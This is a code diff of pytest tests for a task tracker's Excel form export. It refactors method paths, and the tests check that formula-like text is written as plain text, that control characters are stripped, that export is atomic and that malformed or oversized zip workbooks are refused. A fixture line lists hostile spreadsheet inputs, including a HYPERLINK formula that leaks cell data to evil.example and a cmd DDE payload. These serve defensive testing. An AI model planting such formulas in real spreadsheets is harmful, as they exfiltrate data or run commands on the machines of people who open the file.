@@ -21,7 +21,7 @@ HOSTILE = ['=HYPERLINK("http://evil.example/x?"&A1,"点此查看")', "+cmd|' /C 
 
 
 def _unit_task_ids(tr, unit):
-    return [t["id"] for t in tr.tasks(unit=unit)][:len(HOSTILE) + 1]
+    return [t["id"] for t in tr.ledger.tasks(unit=unit)][:len(HOSTILE) + 1]
 
 
 def test_formula_looking_text_is_written_as_text(demo_tracker, tmp_path):
@@ -30,7 +30,7 @@ def test_formula_looking_text_is_written_as_text(demo_tracker, tmp_path):
         demo_tracker.db.execute("UPDATE tasks SET content = ? WHERE id = ?", [text, tid])
     demo_tracker.db.execute("UPDATE tasks SET content = ? WHERE id = ?",
                             ["推进\x0c项目\x1b[31m建设\x07。", ids[len(HOSTILE)]])
-    (path,) = demo_tracker.export_forms(PERIOD, tmp_path / "out", unit=UNIT)
+    (path,) = demo_tracker.returns.export_forms(PERIOD, tmp_path / "out", unit=UNIT)
     ws = openpyxl.load_workbook(path)[DATA_SHEET]
     cells = {ws.cell(r, COL_INDEX["content"]).value: ws.cell(r, COL_INDEX["content"])
              for r in range(FIRST_DATA_ROW, ws.max_row + 1)}
@@ -40,13 +40,13 @@ def test_formula_looking_text_is_written_as_text(demo_tracker, tmp_path):
     assert "推进项目建设。" in cells                       # control characters removed
     assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
     # and the form still comes back: its signed identity agrees with the cleaned texts
-    form = read_form(path.read_bytes(), path.name, demo_tracker._form_secret(create=False))
+    form = read_form(path.read_bytes(), path.name, demo_tracker.returns._form_secret(create=False))
     assert form.ok, form.errors
 
 
 def test_unit_name_that_looks_like_a_formula(demo_tracker, tmp_path):
     demo_tracker.db.execute("UPDATE units SET name = '=1+1' WHERE name = ?", [UNIT])
-    (path,) = demo_tracker.export_forms(PERIOD, tmp_path / "out", unit="=1+1")
+    (path,) = demo_tracker.returns.export_forms(PERIOD, tmp_path / "out", unit="=1+1")
     wb = openpyxl.load_workbook(path)
     assert wb[DATA_SHEET]["C3"].value == "=1+1" and wb[DATA_SHEET]["C3"].data_type == "s"
     assert wb[ID_SHEET]["B2"].data_type == "s"
@@ -54,7 +54,7 @@ def test_unit_name_that_looks_like_a_formula(demo_tracker, tmp_path):
 
 def test_export_is_atomic(demo_tracker, tmp_path, monkeypatch):
     out = tmp_path / "out"
-    (first,) = demo_tracker.export_forms(PERIOD, out, unit=UNIT)
+    (first,) = demo_tracker.returns.export_forms(PERIOD, out, unit=UNIT)
     before = first.read_bytes()
 
     def dies(self, filename):
@@ -64,7 +64,7 @@ def test_export_is_atomic(demo_tracker, tmp_path, monkeypatch):
 
     monkeypatch.setattr(openpyxl.Workbook, "save", dies)
     with pytest.raises(KeyboardInterrupt):
-        demo_tracker.export_forms(PERIOD, out, unit=UNIT)
+        demo_tracker.returns.export_forms(PERIOD, out, unit=UNIT)
     assert first.read_bytes() == before
     assert sorted(p.name for p in out.iterdir()) == [first.name]
 
@@ -133,12 +133,12 @@ def test_workbook_bombs_are_refused_fast(extra, cells, why):
 
 
 def test_a_real_exported_form_passes_the_extent_check(demo_tracker, tmp_path):
-    (path,) = demo_tracker.export_forms(PERIOD, tmp_path / "out", unit=UNIT)
+    (path,) = demo_tracker.returns.export_forms(PERIOD, tmp_path / "out", unit=UNIT)
     assert check_container(path.read_bytes()) is None
 
 
 def test_a_zip_entry_with_an_impossible_version_is_refused_not_raised(demo_tracker, tmp_path):
-    (path,) = demo_tracker.export_forms(PERIOD, tmp_path / "out", unit=UNIT)
+    (path,) = demo_tracker.returns.export_forms(PERIOD, tmp_path / "out", unit=UNIT)
     data = bytearray(path.read_bytes())
     cd = data.rfind(b"PK\x01\x02")                      # last central directory entry
     data[cd + 6:cd + 8] = (196).to_bytes(2, "little")   # "needs zip version 19.6"
